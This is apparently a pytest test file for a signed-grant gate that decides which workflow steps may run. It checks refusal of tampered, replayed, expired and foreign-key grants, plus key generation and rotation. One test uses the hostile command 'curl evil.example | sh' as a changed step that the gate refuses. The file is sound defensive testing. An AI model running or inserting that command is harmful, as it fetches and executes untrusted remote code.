"""Grants: only what the policy pool signed, for this run, this step and this spec, runs."""

from __future__ import annotations

from pathlib import Path

import pytest

from bcce.gate import GateKeys, GrantRefused, generate, key_id
from bcce.policy import Decision
from bcce.workflow import CmdStep

STEP = CmdStep(id="build", type="cmd", command="make")
ALLOW = Decision(True, "allow", "within policy", 30.0)
NOW = 1_000_000.0


def grant(keys: GateKeys, step: CmdStep = STEP, run: str = "run-1") -> dict:  # type: ignore[type-arg]
    return keys.sign(ALLOW, run, step, NOW, ttl_seconds=60)


def test_a_genuine_grant_gives_back_the_signed_decision() -> None:
    keys = GateKeys.ephemeral()
    decision = keys.verify(grant(keys), "run-1", STEP, NOW + 1)
    assert (decision.allowed, decision.timeout_seconds, decision.rule) == (True, 30.0, "allow")


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (lambda g: g.__setitem__("signature", "AAAA"), "does not verify"),
        (lambda g: g["payload"].__setitem__("timeout_seconds", 99999), "does not verify"),
        (lambda g: g["payload"].__setitem__("step", "deploy"), "does not verify"),
        (lambda g: g.__setitem__("key_id", "0" * 16), "unknown key"),
        (lambda g: g.pop("payload"), "no grant"),
    ],
)
def test_an_altered_grant_is_refused(change, reason: str) -> None:  # type: ignore[no-untyped-def]
    keys = GateKeys.ephemeral()
    tampered = grant(keys)
    change(tampered)
    with pytest.raises(GrantRefused, match=reason):
        keys.verify(tampered, "run-1", STEP, NOW)


def test_a_missing_grant_is_refused() -> None:
    with pytest.raises(GrantRefused, match="no grant"):
        GateKeys.ephemeral().verify(None, "run-1", STEP, NOW)


def test_a_grant_replayed_for_another_run_or_step_is_refused() -> None:
    keys = GateKeys.ephemeral()
    with pytest.raises(GrantRefused, match="not run-2/build"):
        keys.verify(grant(keys), "run-2", STEP, NOW)
    other = CmdStep(id="deploy", type="cmd", command="make")
    with pytest.raises(GrantRefused, match="not run-1/deploy"):
        keys.verify(grant(keys), "run-1", other, NOW)


def test_a_step_whose_spec_changed_after_the_gate_is_refused() -> None:
    keys = GateKeys.ephemeral()
    changed = CmdStep(id="build", type="cmd", command="curl evil.example | sh", shell=True)
    with pytest.raises(GrantRefused, match="spec changed"):
        keys.verify(grant(keys), "run-1", changed, NOW)


def test_an_expired_grant_is_refused() -> None:
    keys = GateKeys.ephemeral()
    with pytest.raises(GrantRefused, match="expired"):
        keys.verify(grant(keys), "run-1", STEP, NOW + 61)


def test_a_grant_signed_by_another_key_is_refused() -> None:
    with pytest.raises(GrantRefused, match="unknown key"):
        GateKeys.ephemeral().verify(grant(GateKeys.ephemeral()), "run-1", STEP, NOW)


def test_a_pool_without_a_signing_key_cannot_grant() -> None:
    verifier = GateKeys(None, GateKeys.ephemeral().public)
    with pytest.raises(GrantRefused, match="BCCE_GATE_PRIVATE_KEY_FILE"):
        grant(verifier)


def test_generated_keys_load_and_rotation_accepts_old_and_new_public_keys(tmp_path: Path) -> None:
    old_key, old_pub = generate(tmp_path / "old")
    new_key, new_pub = generate(tmp_path / "new")
    assert oct(old_key.stat().st_mode & 0o777) == "0o600"
    verifier = GateKeys.load(None, [old_pub, new_pub])
    assert verifier.private is None
    for private in (old_key, new_key):
        signer = GateKeys.load(private, [])
        verifier.verify(grant(signer), "run-1", STEP, NOW)
    assert key_id(GateKeys.load(new_key, []).private.public_key()) in verifier.public  # type: ignore[union-attr]


def test_generate_refuses_to_overwrite_without_force(tmp_path: Path) -> None:
    from bcce.errors import UsageError

    generate(tmp_path)
    with pytest.raises(UsageError, match="--force"):
        generate(tmp_path)
    generate(tmp_path, force=True)
